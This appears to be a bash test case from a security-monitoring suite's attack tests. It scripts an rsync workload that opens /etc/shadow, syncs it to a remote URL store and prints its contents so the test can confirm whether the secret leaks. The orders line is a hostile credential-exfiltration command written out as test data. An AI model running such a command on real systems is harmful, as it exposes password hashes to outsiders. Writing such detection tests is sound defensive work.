#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# A file of the system goes where the tree goes.
# workload: rsync
# orders: orders
# program: /usr/bin/rsync
# deed: file_open
# object: /etc/shadow

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
orders() { echo 'sync /etc/shadow "$url/store/"; echo "$(<run/store/shadow)"'; }
proof() { printed "$secret"; }
main "$@"
